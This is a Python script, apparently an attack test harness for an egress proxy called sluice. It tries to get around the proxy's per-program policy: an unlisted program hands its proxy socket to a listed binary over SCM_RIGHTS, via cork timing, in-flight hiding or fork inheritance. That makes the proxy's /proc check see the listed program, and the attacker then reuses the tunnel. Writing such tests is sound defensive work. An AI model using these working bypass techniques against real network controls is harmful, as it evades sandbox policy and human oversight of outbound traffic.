"""Borrowed-identity attacks on sluice: a program the policy does not list passes its proxy
socket (SCM_RIGHTS) to a program it does list, so that sluice's look at /proc finds the
listed one, and takes the socket back to use it.

Run as the attacker:  hand_over.py MODE LISTED_PYTHON PROXY_PORT ARGS...
(PROXY_PORT `env`: the port of $HTTPS_PROXY, as inside `sluice exec`)
The helper is LISTED_PYTHON (a copy of python3 at a path the policy lists) running this same
file in a helper mode; it holds or uses sockets on the attacker's behalf.

Modes (one JSON line per attempt on stdout):
  cork N DELAY_MS TARGET      connect, cork the CONNECT head, wait DELAY_MS, hand the socket to
                              the helper and close our copy; the corked bytes leave while only
                              the helper holds it; take it back and read the answer.
  forward ORIGIN_PORT         the helper sends a first absolute-form request on a keep-alive
                              connection and hands the socket over; we send the second.
  tunnel ORIGIN_PORT          the helper CONNECTs to the origin (an inspected, plaintext HTTP
                              endpoint), sends a first request, hands the socket over; we
                              send the second request inside the tunnel.
  steal ORIGIN_PORT WAIT_MS   the helper opens an L4 CONNECT tunnel and hands it over; we wait
                              WAIT_MS, then try to use the tunnel.
  steal-pipelined ORIGIN_PORT WAIT_MS
                              the same, with the helper's first request sent in the same
                              write as its CONNECT head (bytes that arrive with the head).
  handover N ORIGIN_PORT      the helper sends a first absolute-form GET on a keep-alive
                              connection, hands the socket over and keeps holding its copy; we
                              send the second GET, hide the socket at once (in flight in an
                              SCM_RIGHTS message to ourselves, where no /proc entry shows it),
                              and take it back to read the answer. One line per attempt, with
                              `won` when the origin answered our request. With `cork` after
                              the port, the request is corked and leaves while hidden.
  borrow N TARGET             no SCM_RIGHTS: we create an inheritable socket, fork a child that
                              forks LISTED_PYTHON (blocked on a pipe, holding the socket) and
                              closes its own copy; then we connect and CONNECT to TARGET
                              ourselves, so the listed program is our grandchild and the
                              newest holder.
"""

import json
import os
import socket
import subprocess
import sys
import time


def say(**fields):
    sys.stdout.write(json.dumps(fields) + "\n")
    sys.stdout.flush()


def read_response(sock, timeout=5.0):
    """Everything up to the end of one HTTP response head and its Content-Length body, or up to
    close; '' when the connection was closed or reset without an answer."""
    sock.settimeout(timeout)
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            chunk = sock.recv(65536)
            if not chunk:
                return data.decode(errors="replace")
            data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value.strip())
        while len(body) < length:
            chunk = sock.recv(65536)
            if not chunk:
                break
            body += chunk
        return (head + b"\r\n\r\n" + body).decode(errors="replace")
    except (socket.timeout, ConnectionError, OSError):
        return data.decode(errors="replace")


def status(text):
    parts = text.split(" ", 2)
    if len(parts) >= 2 and parts[0].startswith("HTTP/") and parts[1].isdigit():
        return int(parts[1])
    return None


def get(host_port, absolute):
    target = f"http://{host_port}/" if absolute else "/"
    return f"GET {target} HTTP/1.1\r\nHost: {host_port}\r\n\r\n".encode()


# === helper side (runs as the listed binary) ===


def helper(channel_fd, proxy_port):
    """Obeys the attacker over the unix socket `channel_fd`."""
    channel = socket.socket(fileno=channel_fd)
    held = None
    while True:
        msg, fds, _, _ = socket.recv_fds(channel, 4096, 1)
        if not msg:
            return
        op, _, arg = msg.partition(b" ")
        if op == b"hold":
            held = fds[0]
        elif op == b"back":
            socket.send_fds(channel, [b"back"], [held])
            os.close(held)
            held = None
        elif op == b"pipelined":
            # A CONNECT with a first request right behind its head, in one write: read the
            # CONNECT's answer, then the first request's.
            sock = socket.create_connection(("127.0.0.1", proxy_port))
            sock.sendall(arg)
            answer = read_response(sock)
            if status(answer) == 200:
                answer += "\n" + read_response(sock)
            socket.send_fds(channel, [answer.encode()], [sock.fileno()])
            sock.close()
        elif op in (b"first", b"open"):
            # Connect, send `arg` (a first request, or a CONNECT), read the answer; for `open`
            # (a CONNECT) then send what follows the blank line as the first request in it.
            sock = socket.create_connection(("127.0.0.1", proxy_port))
            if op == b"open":
                connect, _, inner = arg.partition(b"\r\n\r\n")
                sock.sendall(connect + b"\r\n\r\n")
                answer = read_response(sock)
                if inner and status(answer) == 200:
                    sock.sendall(inner)
                    answer += "\n" + read_response(sock)
            else:
                sock.sendall(arg)
                answer = read_response(sock)
            socket.send_fds(channel, [answer.encode()], [sock.fileno()])
            sock.close()
        elif op == b"keep":
            # Send a first request, hand the socket over and keep holding our copy (until
            # `drop`).
            sock = socket.create_connection(("127.0.0.1", proxy_port))
            sock.sendall(arg)
            answer = read_response(sock)
            socket.send_fds(channel, [answer.encode()], [sock.fileno()])
            held = sock
        elif op == b"drop":
            if held is not None:
                held.close()
                held = None
            channel.send(b"dropped")
        elif op == b"sync":
            # Everything asked before is done (a handed-over socket's copy here is closed).
            channel.send(b"synced")
        elif op == b"exit":
            return


# === attacker side ===


class Helper:
    def __init__(self, listed, proxy_port):
        self.channel, theirs = socket.socketpair()
        self.proc = subprocess.Popen(
            [listed, __file__, "helper", str(theirs.fileno()), str(proxy_port)],
            pass_fds=[theirs.fileno()],
        )
        theirs.close()

    def hand(self, sock):
        socket.send_fds(self.channel, [b"hold"], [sock.fileno()])
        sock.close()

    def take_back(self):
        self.channel.send(b"back")
        _, fds, _, _ = socket.recv_fds(self.channel, 16, 1)
        return socket.socket(fileno=fds[0])

    def request(self, op, payload):
        self.channel.send(op + b" " + payload)
        msg, fds, _, _ = socket.recv_fds(self.channel, 65536, 1)
        # The helper closes its copy right after handing it over; wait for that, so that the
        # attacker alone holds the socket when it uses it (the attack under test: with both
        # holding it, the listed helper could as well send the request itself).
        self.channel.send(b"sync")
        self.channel.recv(16)
        return msg.decode(errors="replace"), socket.socket(fileno=fds[0])

    def close(self):
        try:
            self.channel.send(b"exit")
        except OSError:
            pass
        self.proc.wait(timeout=10)


def cork(helper, proxy_port, attempts, delay_ms, target):
    for attempt in range(attempts):
        sock = socket.create_connection(("127.0.0.1", proxy_port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        local_port = sock.getsockname()[1]
        if delay_ms:
            time.sleep(delay_ms / 1000)
        helper.hand(sock)
        # TCP_CORK holds output for at most 200 ms: the head leaves while the helper holds it.
        time.sleep(0.4)
        sock = helper.take_back()
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 0)
        answer = read_response(sock)
        code = status(answer)
        used = None
        if code == 200:
            # The tunnel is ours now: try it at once, and again after a while.
            sock.sendall(get(target, False))
            used = status(read_response(sock))
            time.sleep(1.5)
            try:
                sock.sendall(get(target, False))
                later = status(read_response(sock, 2.0))
            except OSError:
                later = None
        else:
            later = None
        say(attempt=attempt, port=local_port, status=code, used=used, later=later, answer=answer[:2000])
        sock.close()


def keep_alive(helper, origin_port, inside_tunnel):
    target = f"127.0.0.1:{origin_port}"
    if inside_tunnel:
        payload = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode() + get(target, False)
        first, sock = helper.request(b"open", payload)
    else:
        first, sock = helper.request(b"first", get(target, True))
    local_port = sock.getsockname()[1]
    sock.sendall(get(target, not inside_tunnel))
    second = read_response(sock)
    say(port=local_port, first=first[:2000], second=second[:2000], status=status(second))


def steal(helper, origin_port, wait_ms, pipelined=False):
    target = f"127.0.0.1:{origin_port}"
    connect = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()
    if pipelined:
        answer, sock = helper.request(b"pipelined", connect + get(target, False))
    else:
        answer, sock = helper.request(b"open", connect)
    local_port = sock.getsockname()[1]
    time.sleep(wait_ms / 1000)
    try:
        sock.sendall(get(target, False))
        later = read_response(sock, 3.0)
    except OSError as e:
        later = f"error: {e}"
    say(port=local_port, status=status(answer), later=later[:2000], later_status=status(later))


def handover(helper, attempts, origin_port, corked=False):
    target = f"127.0.0.1:{origin_port}"
    hide_in, hide_out = socket.socketpair()
    for attempt in range(attempts):
        helper.channel.send(b"keep " + get(target, True))
        _, fds, _, _ = socket.recv_fds(helper.channel, 65536, 1)
        sock = socket.socket(fileno=fds[0])
        local_port = sock.getsockname()[1]
        if corked:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
        sock.sendall(get(target, True))
        # Hide: no process but the listed helper holds it while sluice looks.
        socket.send_fds(hide_in, [b"x"], [sock.fileno()])
        sock.close()
        if corked:
            # The corked request leaves within 200 ms, while the socket is hidden.
            time.sleep(0.3)
        _, fds, _, _ = socket.recv_fds(hide_out, 16, 1)
        sock = socket.socket(fileno=fds[0])
        answer = read_response(sock)
        code = status(answer)
        won = code == 200 and "hello from origin" in answer
        say(attempt=attempt, port=local_port, status=code, won=won, answer=answer[:2000])
        sock.close()
        helper.channel.send(b"drop")
        helper.channel.recv(16)


def borrow(listed, proxy_port, attempts, target):
    for attempt in range(attempts):
        sock = socket.socket()
        sock.set_inheritable(True)
        r, w = os.pipe()
        middle = os.fork()
        if middle == 0:
            lender = os.fork()
            if lender == 0:
                os.dup2(r, 0)
                os.close(w)
                os.execv(listed, [listed, "-c", "import sys; sys.stdin.read()"])
            sock.close()
            os.close(r)
            os.close(w)
            os.waitpid(lender, 0)
            os._exit(0)
        os.close(r)
        time.sleep(0.3)
        sock.connect(("127.0.0.1", proxy_port))
        local_port = sock.getsockname()[1]
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        answer = read_response(sock)
        code = status(answer)
        used = None
        if code == 200:
            sock.sendall(get(target, False))
            used = status(read_response(sock))
        say(attempt=attempt, port=local_port, status=code, used=used, answer=answer[:2000])
        sock.close()
        os.close(w)
        os.waitpid(middle, 0)


def main():
    mode = sys.argv[1]
    if mode == "helper":
        helper(int(sys.argv[2]), int(sys.argv[3]))
        return
    listed, proxy_port = sys.argv[2], sys.argv[3]
    if proxy_port == "env":
        # Inside `sluice exec`: the proxy is the one the environment names.
        proxy_port = os.environ["HTTPS_PROXY"].rstrip("/").rsplit(":", 1)[1]
    proxy_port = int(proxy_port)
    args = sys.argv[4:]
    if mode == "borrow":
        borrow(listed, proxy_port, int(args[0]), args[1])
        return
    h = Helper(listed, proxy_port)
    try:
        if mode == "cork":
            cork(h, proxy_port, int(args[0]), int(args[1]), args[2])
        elif mode == "forward":
            keep_alive(h, int(args[0]), inside_tunnel=False)
        elif mode == "tunnel":
            keep_alive(h, int(args[0]), inside_tunnel=True)
        elif mode == "steal":
            steal(h, int(args[0]), int(args[1]))
        elif mode == "handover":
            handover(h, int(args[0]), int(args[1]), corked=args[2:] == ["cork"])
        elif mode == "steal-pipelined":
            steal(h, int(args[0]), int(args[1]), pipelined=True)
        else:
            sys.exit(f"unknown mode {mode}")
    finally:
        h.close()


if __name__ == "__main__":
    main()
